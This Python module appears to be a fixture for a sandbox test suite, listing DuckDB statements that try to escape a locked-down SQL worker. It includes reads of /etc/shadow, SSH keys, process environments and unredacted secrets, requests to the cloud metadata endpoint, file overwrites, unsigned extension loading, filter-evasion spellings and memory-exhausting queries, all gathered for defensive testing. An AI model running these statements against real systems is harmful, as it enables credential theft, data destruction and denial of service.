"""Statements that try to get out of the SQL worker: files, writes, connections, settings, and those that
never end. In braces: what the test puts there (see Places in test_escapes.py)."""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Escape:
    name: str
    sql: str
    kind: str  # read, write, connect, change, hide, endless


FILE_READERS = ("read_csv", "read_csv_auto", "read_json", "read_json_auto", "read_json_objects", "read_json_objects_auto",
                "read_ndjson", "read_ndjson_auto", "read_ndjson_objects", "read_text", "read_blob", "sniff_csv", "glob")
PARQUET_READERS = ("read_parquet", "parquet_scan", "parquet_metadata", "parquet_schema", "parquet_file_metadata",
                   "parquet_kv_metadata")
PLACES = {"passwd": "/etc/passwd", "canary": "{canary}/secret.csv", "link": "{link}", "link-directory": "{link_directory}/secret.csv",
          "dots": "{warehouse}/../../{canary_name}/secret.csv", "scheme": "file://{canary}/secret.csv"}


def reading():
    for function in FILE_READERS:
        for place, path in PLACES.items():
            yield f"{function} {place}", f"SELECT * FROM {function}('{path}')"
    for function in PARQUET_READERS:
        for place, path in (("neighbour", "{neighbour}"), ("linked neighbour", "{link_parquet}"),
                            ("glob of it", "{neighbour_directory}/*.parquet"), ("scheme", "file://{neighbour}")):
            yield f"{function} {place}", f"SELECT * FROM {function}('{path}')"
    yield "parquet_bloom_probe", "SELECT * FROM parquet_bloom_probe('{neighbour}', 'secret', 1)"
    for path in ("/etc/passwd", "{canary}/secret.csv", "{link}", "{neighbour}", "{link_parquet}", "{canary}/*.csv", "/proc/self/environ",
                 "/proc/self/maps", "/proc/1/cmdline", "/dev/stdin", "~/.ssh/id_rsa", "file://{canary}/secret.csv",
                 "{warehouse}/../../{canary_name}/secret.csv", "{canary}/store.duckdb", "{canary}/secret.json"):
        yield f"replacement scan {path}", f"SELECT * FROM '{path}'"
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/self/fd/3", "/dev/fd/3", "/sys/kernel/notes",
                 "{canary}/secret.txt", "{data}/app.db", "{data}/catalog.db", "/etc/shadow", "/etc/hostname"):
        yield f"read_text {path}", f"SELECT * FROM read_text('{path}')"
        yield f"read_blob {path}", f"SELECT content FROM read_blob(['{path}'])"
    for pattern in ("/*", "/etc/*", "{canary}/**", "{warehouse}/../../*", "/home/*/.ssh/*", "/proc/*/environ"):
        yield f"glob {pattern}", f"SELECT * FROM glob('{pattern}')"
    yield "table macro", "SELECT * FROM query('SELECT * FROM read_text(''{canary}/secret.txt'')')"
    yield "query_table", "SELECT * FROM query_table('{canary}/secret.csv')"
    yield "getenv", "SELECT getenv('HOME')"
    yield "duckdb_secrets", "SELECT * FROM duckdb_secrets(redact = false)"
    yield "duckdb_settings", "SELECT * FROM duckdb_settings()"
    yield "current_setting", "SELECT current_setting('temp_directory')"
    yield "extensions", "SELECT * FROM duckdb_extensions()"
    yield "database list", "SELECT * FROM duckdb_databases()"
    yield "logs", "SELECT * FROM duckdb_logs()"
    yield "temporary files", "SELECT * FROM duckdb_temporary_files()"
    yield "views' texts", "SELECT sql FROM duckdb_views()"
    yield "system memory", "SELECT * FROM duckdb_memory()"
    yield "which_secret", "SELECT * FROM which_secret('{canary}', 's3')"
    yield "iceberg_scan", "SELECT * FROM iceberg_scan('{canary}')"
    yield from extension_reading()
    yield "sqlite_scan", "SELECT * FROM sqlite_scan('{data}/app.db', 'tokens')"
    yield "json_execute", "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{canary}/secret.txt'')'))"
    yield "sql_auto_complete", "SELECT * FROM sql_auto_complete('SELECT * FROM ''{canary}/')"


def extension_reading():
    """What only a worker with DuckDB's iceberg extension could read."""
    yield "iceberg_scan table", "SELECT * FROM iceberg_scan('{iceberg}')"
    yield "iceberg_scan scheme", "SELECT * FROM iceberg_scan('file://{iceberg}')"
    yield "iceberg_scan link", "SELECT * FROM iceberg_scan('{link_iceberg}/metadata/{iceberg_name}')"
    yield "iceberg_scan directory", "SELECT * FROM iceberg_scan('{iceberg_directory}', allow_moved_paths => true)"
    for function in ("iceberg_metadata", "iceberg_snapshots", "iceberg_column_stats", "iceberg_partition_stats"):
        yield function, f"SELECT * FROM {function}('{{iceberg}}')"
    for function in ("iceberg_table_properties", "iceberg_load_table_response", "iceberg_schema_properties"):
        yield function, f"SELECT * FROM {function}('icelight.analytics.events')"
    yield "read_avro", "SELECT * FROM read_avro('{avro}')"
    yield "read_avro link", "SELECT * FROM read_avro('{link_avro}')"
    yield "read_avro glob", "SELECT * FROM read_avro('{iceberg_directory}/*/*.avro')"
    yield "avro replacement scan", "SELECT * FROM '{avro}'"
    yield "iceberg_truncate", "SELECT iceberg_truncate(10, 17)"
    yield "iceberg in a subquery", "SELECT (SELECT max(secret) FROM iceberg_scan('{iceberg}')) FROM events"


def writing():
    copy = "COPY (SELECT 'escaped' AS x) TO"
    for name, target in (("canary", "{canary}/out.csv"), ("warehouse", "{warehouse}/out.csv"), ("tmp", "/tmp/{tag}-out.csv"),
                         ("spill", "{spill}/out.csv"), ("log", "{log}/out.wal"), ("link", "{link}"),
                         ("dots", "{warehouse}/../../{canary_name}/dots.csv"), ("stdout", "/dev/stdout"), ("fd", "/dev/fd/3")):
        yield f"copy to {name}", f"{copy} '{target}'"
    yield "copy parquet", copy + " '{canary}/out.parquet' (FORMAT parquet)"
    yield "copy json", copy + " '{canary}/out.json' (FORMAT json)"
    yield "copy blob", "COPY (SELECT 'x'::BLOB) TO '{canary}/out.blob' (FORMAT blob)"
    yield "copy partitioned", "COPY (SELECT 1 AS p, 2 AS x) TO '{canary}/parts' (FORMAT parquet, PARTITION_BY (p))"
    yield "copy per thread", "COPY (SELECT 1 AS x) TO '{warehouse}/parts' (FORMAT csv, PER_THREAD_OUTPUT)"
    yield "copy from", "COPY events FROM '{canary}/secret.csv'"
    yield "copy table from", "CREATE TABLE taken (x VARCHAR); COPY taken FROM '{canary}/secret.csv'"
    yield "copy database", "COPY FROM DATABASE icelight TO memory"
    yield "export", "EXPORT DATABASE '{canary}/export'"
    yield "export to warehouse", "EXPORT DATABASE '{warehouse}/export'"
    yield "import", "IMPORT DATABASE '{canary}'"
    yield "attach new", "ATTACH '{canary}/new.duckdb' AS fresh"
    yield "attach in warehouse", "ATTACH '{warehouse}/new.duckdb' AS fresh"
    yield "attach in spill", "ATTACH '{spill}/new.duckdb' AS fresh"
    yield "attach the catalog", "ATTACH '{data}/catalog.db' AS catalog (TYPE sqlite)"
    yield "attach existing", "ATTACH '{canary}/store.duckdb' AS other (READ_ONLY)"
    yield "logging to file", "CALL enable_logging(storage = 'file', storage_path = '{canary}/logs')"
    yield "logging to stdout", "CALL enable_logging(storage = 'stdout')"
    yield "profiling output", "PRAGMA profiling_output = '{canary}/profile.json'"
    yield "profile", "SET profile_output = '{canary}/profile.json'"
    yield "log query path", "SET log_query_path = '{canary}/queries.txt'"
    yield "spill elsewhere", "SET temp_directory = '{canary}'"
    yield "home", "SET home_directory = '{canary}'"
    yield "copy iceberg", "COPY (SELECT 1 AS x) TO '{canary}/ice' (FORMAT iceberg)"
    yield "copy avro", "COPY (SELECT 1 AS x) TO '{canary}/out.avro' (FORMAT avro)"
    yield "copy iceberg to warehouse", "COPY (SELECT 1 AS x) TO '{warehouse}/ice' (FORMAT iceberg)"
    yield "iceberg_to_ducklake", "SELECT * FROM iceberg_to_ducklake('icelight', '{canary}/lake')"
    yield "set_iceberg_table_properties", "CALL set_iceberg_table_properties('icelight.analytics.events', {{'a': 'b'}})"
    yield "remove_iceberg_table_properties", "SELECT * FROM remove_iceberg_table_properties('icelight.analytics.events', ['a'])"
    yield "checkpoint", "CHECKPOINT"
    yield "force checkpoint", "FORCE CHECKPOINT"
    # Where it succeeds nothing is left for those behind it.
    yield "copy over data file", copy + " '{data_file}' (FORMAT parquet)"
    yield "copy overwrite", "COPY (SELECT 1 AS p, 2 AS x) TO '{warehouse}' (FORMAT csv, PARTITION_BY (p), OVERWRITE)"


def connecting():
    urls = ("http://127.0.0.1:{port}/x.csv", "https://127.0.0.1:{port}/x.csv", "s3://bucket/x.parquet", "http://169.254.169.254/latest/meta-data/",
            "http://localhost:{port}/x.parquet", "hf://datasets/x/y.csv", "az://container/x.parquet", "gcs://bucket/x.csv", "ftp://127.0.0.1/x.csv",
            "http://[::1]:{port}/x.csv", "//127.0.0.1/share/x.csv", "unix://{canary}/socket")
    for url in urls:
        yield f"replacement scan {url}", f"SELECT * FROM '{url}'"
        yield f"read_csv {url}", f"SELECT * FROM read_csv('{url}')"
    for url in urls[:6]:
        yield f"read_parquet {url}", f"SELECT * FROM read_parquet('{url}')"
        yield f"copy to {url}", f"COPY (SELECT * FROM events) TO '{url}'"
    yield "install", "INSTALL httpfs"
    yield "install from", "INSTALL httpfs FROM 'http://127.0.0.1:{port}'"
    yield "install community", "INSTALL h3 FROM community"
    yield "force install", "FORCE INSTALL spatial"
    yield "load", "LOAD httpfs"
    yield "load a file", "LOAD '{canary}/evil.duckdb_extension'"
    yield "update extensions", "UPDATE EXTENSIONS"
    yield "attach http", "ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS remote"
    yield "attach postgres", "ATTACH 'host=127.0.0.1 port={port}' AS remote (TYPE postgres)"
    yield "attach iceberg", "ATTACH '' AS remote (TYPE iceberg, ENDPOINT 'http://127.0.0.1:{port}')"
    yield "attach iceberg, no authorization", "ATTACH '' AS remote (TYPE iceberg, ENDPOINT 'http://127.0.0.1:{port}', AUTHORIZATION_TYPE 'none')"
    yield "iceberg_scan over http", "SELECT * FROM iceberg_scan('http://127.0.0.1:{port}/00001-x.metadata.json')"
    yield "read_avro over http", "SELECT * FROM read_avro('http://127.0.0.1:{port}/x.avro')"
    yield "iceberg secret", "CREATE SECRET ice (TYPE iceberg, CLIENT_ID 'x', CLIENT_SECRET 'y', OAUTH2_SERVER_URI 'http://127.0.0.1:{port}/token')"
    yield "secret", "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT '127.0.0.1:{port}')"
    yield "persistent secret", "CREATE PERSISTENT SECRET s (TYPE http)"


def changing():
    statements = (
        "INSERT INTO events (message_id) VALUES ('x')", "UPDATE events SET event = 'x'", "DELETE FROM events", "TRUNCATE events",
        "DROP TABLE events", "DROP VIEW analytics.events", "CREATE OR REPLACE VIEW analytics.events AS SELECT 1",
        "ALTER TABLE events RENAME TO gone", "ALTER VIEW events RENAME TO gone", "CREATE TABLE mine AS SELECT 1", "CREATE TEMP TABLE mine (x INT)",
        "CREATE SCHEMA mine", "CREATE SEQUENCE mine", "CREATE TYPE mine AS ENUM ('a')", "CREATE MACRO mine(x) AS x + 1",
        "CREATE MACRO files(p) AS TABLE SELECT * FROM read_text(p)", "CREATE INDEX mine ON events (event)", "CREATE FUNCTION f(x) AS x",
        "DELETE FROM memory.main.tail_events", "SELECT * FROM icelight_tail_events()", "SELECT * FROM system.main.icelight_tail_rejected()",
        "INSERT INTO memory.main.tail_events SELECT * FROM events", "MERGE INTO events USING events e ON true WHEN MATCHED THEN DELETE",
        "WITH gone AS (DELETE FROM events RETURNING *) SELECT * FROM gone", "SET memory_limit = '100GB'", "SET threads = 64",
        "SET enable_external_access = true", "SET allowed_directories = ['/']", "SET allowed_paths = ['{canary}/secret.csv']",
        "SET lock_configuration = false", "RESET lock_configuration", "RESET enable_external_access", "SET GLOBAL TimeZone = 'America/New_York'",
        "SET allow_unsigned_extensions = true", "SET autoload_known_extensions = true", "SET custom_extension_repository = 'http://127.0.0.1:{port}'",
        "SET extension_directory = '{canary}'", "SET secret_directory = '{canary}'", "SET disabled_filesystems = ''", "SET max_temp_directory_size = '1TB'",
        "SET VARIABLE x = 1", "SELECT getvariable('x')", "PRAGMA enable_profiling", "PRAGMA database_list", "PRAGMA show_tables", "PRAGMA version",
        "PRAGMA table_info('events')", "PRAGMA storage_info('events')", "PRAGMA enable_verification", "PRAGMA disable_optimizer",
        "CALL pragma_version()", "CALL duckdb_settings()", "CALL force_checkpoint()", "CALL sleep_ms(60000)", "USE memory.main", "ATTACH ':memory:' AS mine",
        "DETACH icelight", "BEGIN TRANSACTION", "COMMIT", "ROLLBACK", "PREPARE p AS SELECT * FROM read_text('{canary}/secret.txt')", "EXECUTE p",
        "DEALLOCATE p", "VACUUM", "ANALYZE", "COMMENT ON TABLE events IS 'x'", "LISTEN x", "LOAD json", "EXPLAIN INSERT INTO events (message_id) VALUES ('x')",
        "EXPLAIN ANALYZE COPY (SELECT 1) TO '{canary}/out.csv'", "SHOW DATABASES", "SHOW VARIABLES", "DESCRIBE '{canary}/secret.csv'",
        "SUMMARIZE '{canary}/secret.csv'", "SELECT nextval('mine')", "SELECT write_log('x')", "SELECT set_config('threads', '64', false)",
        "SELECT txid_current()", "SELECT current_query()", "SELECT * FROM pg_catalog.pg_class", "SELECT * FROM information_schema.tables",
        "SELECT * FROM duckdb_tables", "SELECT * FROM sqlite_master", "SELECT * FROM system.main.duckdb_columns()", "SELECT add_parquet_key('k', '0123456789abcdef')")
    for sql in statements:
        yield sql, sql


def hiding():
    """What reads the canary, spelled so that a gate over the text would not see it."""
    inner = "read_text('{canary}/secret.txt')"
    texts = {
        "comment": "SELECT * FROM /* events */ read_text/**/('{canary}/secret.txt')", "case": "SELECT * FROM ReAd_TeXt('{canary}/secret.txt')",
        "quoted name": "SELECT * FROM \"read_text\"('{canary}/secret.txt')", "schema": "SELECT * FROM main.read_text('{canary}/secret.txt')",
        "catalog": "SELECT * FROM system.main.read_text('{canary}/secret.txt')", "subquery": f"SELECT (SELECT content FROM {inner})",
        "in where": f"SELECT 1 WHERE EXISTS (SELECT * FROM {inner})", "in order": f"SELECT 1 ORDER BY (SELECT content FROM {inner})",
        "in limit": f"SELECT 1 LIMIT (SELECT size FROM {inner})", "in offset": f"SELECT 1 OFFSET (SELECT size FROM {inner})",
        "in having": f"SELECT 1 GROUP BY 1 HAVING EXISTS (SELECT * FROM {inner})", "in qualify": f"SELECT 1 QUALIFY EXISTS (SELECT * FROM {inner})",
        "in window": f"SELECT row_number() OVER (ORDER BY (SELECT content FROM {inner}))", "in filter": f"SELECT count(*) FILTER (EXISTS (SELECT * FROM {inner}))",
        "in case": f"SELECT CASE WHEN true THEN (SELECT content FROM {inner}) END", "in lambda": f"SELECT list_transform([1], x -> (SELECT content FROM {inner}))",
        "in list": f"SELECT [(SELECT content FROM {inner})]", "in struct": f"SELECT {{{{'a': (SELECT content FROM {inner})}}}}",
        "in cast": f"SELECT CAST((SELECT content FROM {inner}) AS VARCHAR)", "in values": f"VALUES ((SELECT content FROM {inner}))",
        "in join": f"SELECT * FROM events JOIN {inner} ON true", "in lateral": f"SELECT * FROM events, LATERAL (SELECT * FROM {inner})",
        "in cte": f"WITH x AS (SELECT * FROM {inner}) SELECT * FROM x", "in recursive cte": f"WITH RECURSIVE x AS (SELECT content FROM {inner} UNION ALL SELECT content FROM x) SELECT * FROM x LIMIT 1",
        "in materialized cte": f"WITH x AS MATERIALIZED (SELECT * FROM {inner}) SELECT 1", "in union": f"SELECT event FROM events UNION ALL SELECT content FROM {inner}",
        "in pivot": f"PIVOT (SELECT * FROM {inner}) ON filename USING count(*)", "in unpivot": f"UNPIVOT (SELECT content FROM {inner}) ON content",
        "in describe": f"DESCRIBE SELECT * FROM {inner}", "in summarize": f"SUMMARIZE SELECT * FROM {inner}", "in explain": f"EXPLAIN ANALYZE SELECT * FROM {inner}",
        "from first": f"FROM {inner}", "table statement": "TABLE '{canary}/secret.csv'", "positional join": f"SELECT * FROM events POSITIONAL JOIN {inner}",
        "asof join": f"SELECT * FROM events ASOF JOIN {inner} ON true", "sample": f"SELECT * FROM {inner} USING SAMPLE 1", "columns": f"SELECT COLUMNS(*) FROM {inner}",
        "argument": f"SELECT * FROM unnest((SELECT list(content) FROM {inner}))", "second statement": f"SELECT 1; SELECT * FROM {inner}",
        "after a comment": f"SELECT 1 -- \n; SELECT * FROM {inner}", "cte named as a file": "WITH \"{canary}/secret.csv\" AS (SELECT 1) SELECT * FROM (SELECT * FROM \"{canary}/secret.csv\")",
        "cte out of scope": "SELECT * FROM (WITH \"duckdb_tables\" AS (SELECT 1) SELECT * FROM \"duckdb_tables\") a, \"duckdb_tables\" b",
        "cte out of scope, file": "SELECT * FROM (WITH \"{canary}/secret.csv\" AS (SELECT 1) SELECT 1) a, \"{canary}/secret.csv\" b",
        "dollar quotes": "SELECT * FROM read_text($${canary}/secret.txt$$)", "escaped text": "SELECT * FROM read_text(E'{canary}\\x2fsecret.txt')",
        "concatenated": "SELECT * FROM read_text('{canary}' || '/secret.txt')", "list": "SELECT * FROM read_text(['{canary}/secret.txt'])",
        "named argument": "SELECT * FROM read_csv(files := '{canary}/secret.csv')", "of a table": "SELECT * FROM read_text((SELECT '{canary}/secret.txt'))",
        "dot call": "SELECT '{canary}/secret.txt'.read_text()", "qualified dot call": "SELECT ('SELECT 1').query()", "at": "SELECT * FROM events AT (VERSION => 1)",
        "wide name": "SELECT * FROM ｒｅａｄ_text('{canary}/secret.txt')", "zero width": "SELECT * FROM read\u200b_text('{canary}/secret.txt')",
        "row id": "SELECT file_row_number, filename FROM events", "virtual columns": "SELECT filename FROM events", "prefix alias": "SELECT x: content FROM " + inner,
        "try": f"SELECT TRY((SELECT content FROM {inner}))", "variant path": "SELECT ({{'a': 1}}::VARIANT).a.b FROM read_text('{canary}/secret.txt')"}
    yield from texts.items()


def running_on():
    """Statements that never end by themselves, or want all memory."""
    deep = 5_000
    statements = {
        "cross joins": "SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000000) c",
        "endless recursion": "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
        "doubling recursion": "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + m FROM t, range(2) r(m)) SELECT count(*) FROM t",
        "repeat": "SELECT length(repeat('a', 2000000000))", "repeat of repeat": "SELECT length(repeat(repeat('a', 1000000), 2000))",
        "lpad": "SELECT length(lpad('a', 2000000000, 'b'))", "rpad": "SELECT length(rpad('a', 2000000000, 'b'))",
        "printf": "SELECT length(printf('%2000000000d', 1))", "format": "SELECT length(format('{{:2000000000}}', 1))",
        "long list": "SELECT list_sum(range(500000000))", "list of lists": "SELECT len(list_transform(range(100000), x -> range(100000)))",
        "sorted list": "SELECT list_sort(range(300000000))[1]", "array_agg": "SELECT len(array_agg(a)) FROM range(10000000000) t(a)",
        "string_agg": "SELECT length(string_agg(a::VARCHAR, ',')) FROM range(10000000000) t(a)", "wide groups": "SELECT count(*) FROM (SELECT a, count(*) FROM range(10000000000) t(a) GROUP BY a)",
        "distinct": "SELECT count(DISTINCT a) FROM range(10000000000) t(a)", "sort": "SELECT a FROM range(10000000000) t(a) ORDER BY hash(a) LIMIT 20000",
        "window": "SELECT sum(a) OVER (ORDER BY hash(a)) FROM range(1000000000) t(a)", "long sum": "SELECT sum(sin(a)) FROM range(1000000000000) t(a)",
        "generate_series": "SELECT count(*) FROM generate_series(1, 1000000000000)", "levenshtein": "SELECT levenshtein(repeat('ab', 100000), repeat('ba', 100000))",
        "damerau": "SELECT damerau_levenshtein(repeat('ab', 50000), repeat('ba', 50000))", "jaro": "SELECT jaro_similarity(repeat('ab', 500000), repeat('ba', 500000))",
        "jaccard": "SELECT sum(jaccard(repeat('abcdef', 100000), repeat('fedcba', 100000))) FROM range(10000000) t(a)", "regex": "SELECT regexp_replace(repeat('a', 20000000), '(a*)*b', 'c', 'g')",
        "regex blow-up": "SELECT length(regexp_replace(repeat('a', 1000000), 'a', repeat('b', 10000), 'g'))", "regex repetition": "SELECT regexp_matches(repeat('a', 1000000), '((a{{1,100}}){{1,10}})b')",
        "many literals": "SELECT 1 IN (" + ",".join(str(i) for i in range(40_000)) + ")", "many unions": " UNION ALL ".join(["SELECT 1"] * 900),
        "parentheses": "SELECT " + "(" * deep + "1" + ")" * deep, "minuses": "SELECT " + "- " * deep + "1", "nots": "SELECT " + "NOT " * deep + "true",
        "cases": "SELECT " + "CASE WHEN true THEN " * 900 + "1" + " END" * 900, "additions": "SELECT " + "1+" * deep + "1", "arrays": "SELECT " + "[" * 900 + "1" + "]" * 900,
        "subqueries": "SELECT " + "(SELECT " * 300 + "1" + ")" * 300, "ands": "SELECT " + " AND ".join(["1=1"] * 20_000),
        "bits": "SELECT length(bitstring('1', 2000000000))", "json": "SELECT length(json_array(range(100000000))::VARCHAR)",
        "histogram": "SELECT histogram(a) FROM range(1000000000) t(a)", "quantile": "SELECT quantile_cont(a, 0.5) FROM range(10000000000) t(a)",
        "map": "SELECT cardinality(map_from_entries(list_transform(range(50000000), x -> struct_pack(k := x, v := x))))", "unnest": "SELECT count(*) FROM (SELECT unnest(range(1000000000)))",
        "join without keys": "SELECT count(*) FROM events a, events b, events c, events d, events e, events f", "like": "SELECT sum((repeat('a', 100000) LIKE '%a%a%a%a%a%a%a%a%a%b')::INT) FROM range(100000000)",
        "reduce": "SELECT list_reduce(range(100000000), (a, b) -> a + b)", "md5": "SELECT max(md5(a::VARCHAR)) FROM range(100000000000) t(a)", "url_encode": "SELECT length(url_encode(repeat('%', 500000000)))",
        "self join by value": "SELECT count(*) FROM range(100000000) a(x) JOIN range(100000000) b(y) ON x % 10 = y % 10"}
    yield from statements.items()


def corpus():
    """Every statement once."""
    kinds = {"read": reading, "write": writing, "connect": connecting, "change": changing, "hide": hiding, "endless": running_on}
    return [Escape(name, sql, kind) for kind, make in kinds.items() for name, sql in make()]
